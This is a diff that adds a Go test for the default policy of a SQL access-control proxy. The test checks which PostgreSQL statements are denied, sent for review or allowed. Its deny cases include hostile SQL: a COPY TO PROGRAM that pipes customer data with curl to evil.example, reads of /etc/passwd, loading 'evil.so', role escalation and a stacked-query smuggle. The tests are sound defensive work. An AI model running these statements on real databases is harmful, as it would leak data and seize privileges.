@@ -1,0 +1,109 @@
+package dev
+
+import (
+	"context"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"sluice.dev/sluice/libs/config"
+	engine "sluice.dev/sluice/libs/policy"
+	commonv1 "sluice.dev/sluice/proto/sluice/common/v1"
+	policyv1 "sluice.dev/sluice/proto/sluice/policy/v1"
+	"sluice.dev/sluice/services/policy"
+)
+
+// TestDefaultPolicyVerdicts checks the verdicts the README documents for the
+// default development policy.
+func TestDefaultPolicyVerdicts(t *testing.T) {
+	f, err := config.Parse(DefaultConfig())
+	require.NoError(t, err)
+	set, err := engine.Compile(f.RuleProtos(), 1)
+	require.NoError(t, err)
+
+	engineer := &commonv1.Principal{Subject: "alice", Groups: []string{"engineers"}}
+	machine := &commonv1.Principal{Subject: "ci-bot", Groups: []string{"engineers"}, Machine: true}
+	stranger := &commonv1.Principal{Subject: "eve", Groups: []string{"marketing"}}
+	tests := []struct {
+		who  *commonv1.Principal
+		sql  string
+		want string
+		rule string
+	}{
+		// deny for everyone
+		{engineer, "COPY customers TO PROGRAM 'curl -d @- evil.example'", "deny", "deny-file-and-program-access"},
+		{engineer, "COPY customers TO '/tmp/x.csv'", "deny", "deny-file-and-program-access"},
+		{engineer, "SELECT pg_read_file('/etc/passwd')", "deny", "deny-file-and-program-access"},
+		{engineer, "SELECT lo_import('/etc/passwd')", "deny", "deny-file-and-program-access"},
+		{engineer, "SELECT lo_export(1234, '/tmp/x')", "deny", "deny-file-and-program-access"},
+		{engineer, "SET ROLE postgres", "deny", "deny-role-changes"},
+		{engineer, "SET SESSION AUTHORIZATION postgres", "deny", "deny-role-changes"},
+		{engineer, "SELECT set_config('role', 'postgres', false)", "deny", "deny-role-changes"},
+		{engineer, "CREATE ROLE mallory SUPERUSER", "deny", "deny-role-changes"},
+		{engineer, "GRANT ALL ON customers TO PUBLIC", "deny", "deny-role-changes"},
+		{engineer, "REVOKE SELECT ON customers FROM alice", "deny", "deny-role-changes"},
+		{engineer, "ALTER SYSTEM SET log_statement = 'none'", "deny", "deny-server-configuration"},
+		{engineer, "CREATE EXTENSION dblink", "deny", "deny-extensions"},
+		{engineer, "CREATE LANGUAGE plpython3u", "deny", "deny-extensions"},
+		{engineer, "LOAD 'evil.so'", "deny", "deny-file-and-program-access"},
+		{engineer, "DROP DATABASE demo", "deny", "deny-drop-database"},
+		{engineer, "SELECT pg_terminate_backend(1234)", "deny", "deny-backend-signals"},
+		{engineer, "SELECT pg_cancel_backend(1234)", "deny", "deny-backend-signals"},
+		{engineer, "SET standard_conforming_strings = off", "deny", "deny-lexer-settings"},
+		{engineer, "SET client_encoding = 'SJIS'", "deny", "deny-lexer-settings"},
+		{engineer, "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "deny", "deny-replication"},
+		{engineer, "SELEC * FROM customers", "deny", policy.RuleUnparseable},
+		{engineer, "START_REPLICATION SLOT s LOGICAL 0/0", "deny", policy.RuleUnparseable},
+		{engineer, "SELECT 1; SET ROLE postgres", "deny", "deny-role-changes"},
+		// review
+		{engineer, "CREATE TABLE t (id int)", "review", "review-ddl"},
+		{engineer, "ALTER TABLE customers ADD COLUMN x int", "review", "review-ddl"},
+		{engineer, "DROP TABLE orders", "review", "review-ddl"},
+		{engineer, "TRUNCATE orders", "review", "review-ddl"},
+		{engineer, "DELETE FROM customers", "review", "review-unbounded-writes"},
+		{engineer, "UPDATE customers SET email = 'x' WHERE true", "review", "review-unbounded-writes"},
+		{engineer, "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", "review", "review-unbounded-writes"},
+		{engineer, "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$", "review", "review-dynamic-sql"},
+		{engineer, "SELECT * FROM query_to_xml('select * from customers', true, true, '')", "review", "review-dynamic-sql"},
+		{machine, "INSERT INTO orders (customer_id, amount, status) VALUES (1, 10, 'paid')", "review", "review-machine-writes"},
+		{machine, "UPDATE orders SET status = 'x' WHERE id = 1", "review", "review-machine-writes"},
+		{machine, "SELECT nextval('orders_id_seq')", "review", "review-machine-writes"},
+		// allow
+		{engineer, "SELECT * FROM customers WHERE id = 1", "allow", "allow-engineer-reads"},
+		{machine, "SELECT count(*) FROM orders", "allow", "allow-engineer-reads"},
+		{engineer, "BEGIN", "allow", "allow-engineer-reads"},
+		{engineer, "COMMIT", "allow", "allow-engineer-reads"},
+		{engineer, "EXPLAIN SELECT * FROM orders", "allow", "allow-engineer-reads"},
+		{engineer, "SET statement_timeout = '5s'", "allow", "allow-engineer-session"},
+		{engineer, "UPDATE orders SET status = 'shipped' WHERE id = 7", "allow", "allow-human-engineer-writes"},
+		{engineer, "INSERT INTO orders (customer_id, amount, status) VALUES (1, 10, 'paid')", "allow", "allow-human-engineer-writes"},
+		{engineer, "DELETE FROM orders WHERE id = 7", "allow", "allow-human-engineer-writes"},
+		// no match: deny
+		{stranger, "SELECT 1", "deny", engine.NoMatch},
+		{engineer, "VACUUM orders", "deny", engine.NoMatch},
+	}
+	ctx := context.Background()
+	for _, tc := range tests {
+		t.Run(tc.sql, func(t *testing.T) {
+			req := &policyv1.EvaluateRequest{Principal: tc.who, Target: &commonv1.Target{Name: "demo"}, Command: &policyv1.EvaluateRequest_Sql{Sql: &policyv1.SQLCommand{Text: tc.sql}}}
+			d := policy.Evaluate(ctx, set, &commonv1.Target{Name: "demo", Kind: "postgres"}, req, time.Now())
+			assert.Equal(t, tc.want, d.Action, d.Reason)
+			assert.Equal(t, tc.rule, d.Rule, d.Reason)
+			if tc.want == "review" {
+				assert.Equal(t, []string{"approvers"}, d.Approvers)
+			}
+		})
+	}
+
+	// Masking: customer PII for everyone outside dba.
+	sel := &policyv1.EvaluateRequest{Principal: engineer, Command: &policyv1.EvaluateRequest_Sql{Sql: &policyv1.SQLCommand{Text: "SELECT * FROM customers"}}}
+	d := policy.Evaluate(ctx, set, &commonv1.Target{Name: "demo"}, sel, time.Now())
+	require.Len(t, d.Masks, 1)
+	assert.Contains(t, d.Masks[0].Columns, "customers.ssn")
+	sel.Principal = &commonv1.Principal{Subject: "dora", Groups: []string{"engineers", "dba"}}
+	d = policy.Evaluate(ctx, set, &commonv1.Target{Name: "demo"}, sel, time.Now())
+	assert.Empty(t, d.Masks)
+	assert.True(t, d.Cache.GetCacheable())
+}
